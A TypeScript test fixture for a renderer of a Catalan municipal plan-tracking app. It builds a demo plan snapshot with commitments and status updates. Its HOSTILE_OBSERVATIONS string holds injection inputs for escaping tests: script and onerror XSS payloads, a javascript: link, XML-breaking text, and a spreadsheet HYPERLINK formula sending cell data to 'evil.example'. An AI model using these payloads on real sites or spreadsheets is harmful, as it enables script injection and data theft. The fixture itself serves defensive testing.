/**
 * An in-memory plan for the renderer tests: the demo plan from the seed page plus a second area,
 * a few commitments and a history of updates, with hostile text where officials type.
 */

import { DEMO_COMMITMENT, DEMO_PLAN, DEMO_PLAN_ID } from '#shared/domain/demo-plan';
import type { Commitment, Plan, StatusUpdate } from '#shared/domain/model';
import { DEFAULT_STATUSES } from '#shared/domain/vocabulary';
import { type PlanSnapshot, snapshotOf } from '#shared/render/snapshot';

export const FIXTURE_BASE_URL = 'https://mandat.example.org';

export const HOSTILE_OBSERVATIONS = [
  'Licitació **adjudicada**, "cometes", comes, i emoji 🎉🏗️.',
  '',
  '<script>alert("x")</script> <img src=x onerror="alert(1)">',
  '',
  '=HYPERLINK("http://evil.example/?q="&A1,"clic")',
  '',
  '- [enllaç maliciós](javascript:alert(1))',
  '- [acta](https://example.org/acta.pdf)',
  '- línia amb ]]> i </description> i &amp;',
].join('\n');

export function fixtureSnapshot(overrides: { language?: string } = {}): PlanSnapshot {
  const plan: Plan = {
    ...DEMO_PLAN,
    language: overrides.language ?? DEMO_PLAN.language,
    planId: DEMO_PLAN_ID,
    statuses: DEFAULT_STATUSES,
    revision: 9,
    createdAt: '2019-01-10T09:00:00.000Z',
    updatedAt: '2019-06-30T10:00:00.000Z',
  };
  const base = {
    planId: DEMO_PLAN_ID,
    links: [],
    revision: 1,
    reportedAt: '2019-01-10T09:00:00.000Z',
    updatedAt: '2019-01-10T09:00:00.000Z',
  };
  const commitments: Commitment[] = [
    {
      ...base,
      commitmentId: 'c4',
      number: 4,
      title: DEMO_COMMITMENT.title,
      priority: DEMO_COMMITMENT.priority,
      area: DEMO_COMMITMENT.area,
      areaSlug: DEMO_COMMITMENT.areaSlug!,
      status: 'delayed',
      observations: HOSTILE_OBSERVATIONS,
      links: DEMO_COMMITMENT.links!,
      progress: 40,
      revision: 3,
      reportedAt: '2019-06-30T10:00:00.000Z',
      updatedAt: '2019-06-30T10:00:00.000Z',
      lastUpdateId: '3b241101-e2bb-4255-8caf-4136c566a962',
    },
    {
      ...base,
      commitmentId: 'c5',
      number: 5,
      title: '-Impulsarem el comerç de proximitat',
      priority: DEMO_COMMITMENT.priority,
      area: DEMO_COMMITMENT.area,
      areaSlug: DEMO_COMMITMENT.areaSlug!,
      status: 'on_track',
      observations: 'Fet.',
    },
    {
      ...base,
      commitmentId: 'c12',
      number: 12,
      title: 'Millorarem la mobilitat sostenible',
      priority: { number: 2, title: 'Una ciutat més sostenible' },
      area: 'Territori i Sostenibilitat',
      areaSlug: 'territori-i-sostenibilitat',
      status: 'pending',
      observations: '',
    },
  ];
  const update = (
    u: Partial<StatusUpdate> & Pick<StatusUpdate, 'updateId' | 'reportedAt' | 'status' | 'previousStatus'>,
  ): StatusUpdate => ({
    planId: DEMO_PLAN_ID,
    commitmentId: 'c4',
    receivedAt: u.reportedAt,
    observations: '',
    links: [],
    revision: 2,
    planRevision: 5,
    keyId: 'official-1',
    commitmentNumber: 4,
    commitmentTitle: DEMO_COMMITMENT.title,
    area: DEMO_COMMITMENT.area,
    areaSlug: DEMO_COMMITMENT.areaSlug!,
    ...u,
  });
  const updates: StatusUpdate[] = [
    update({
      updateId: '0c7e3f62-5d1a-4c3e-9a53-1f0e8a7b6c01',
      reportedAt: '2018-11-05T08:30:00.000Z',
      status: 'pending',
      previousStatus: 'pending',
      observations: 'Encara no iniciat.',
    }),
    update({
      updateId: '3b241101-e2bb-4255-8caf-4136c566a962',
      reportedAt: '2019-06-30T10:00:00.000Z',
      status: 'delayed',
      previousStatus: 'pending',
      observations: HOSTILE_OBSERVATIONS,
      links: [{ title: 'Acta "final", 2019', url: 'https://example.org/acta.pdf?a=1&b=2' }],
      progress: 40,
      revision: 3,
      planRevision: 9,
    }),
  ];
  return snapshotOf(plan, commitments, updates, FIXTURE_BASE_URL);
}

/** The month and the small plan the month-history tests render (only what the history files read). */
export const MONTH_FIXTURE = '2025-03';
export const monthFixturePlan = {
  planId: 'p',
  title: 'Pla',
  municipality: 'Terrassa',
  period: '2023-2027',
  language: 'ca',
  license: 'CC-BY-4.0',
  statuses: DEFAULT_STATUSES,
  revision: 1,
  updatedAt: '2025-03-01T00:00:00.000Z',
} as unknown as Plan;
